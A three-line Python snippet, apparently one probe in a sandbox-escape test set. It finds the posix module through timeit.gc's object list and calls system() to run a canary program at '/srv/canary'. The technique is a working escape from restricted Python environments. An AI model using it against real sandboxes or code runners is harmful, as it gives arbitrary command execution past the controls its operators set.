# reaches: timeit carries gc and sys
import timeit
[m for m in timeit.gc.get_objects() if getattr(m, "__name__", "") == "posix"][0].system("/srv/canary")
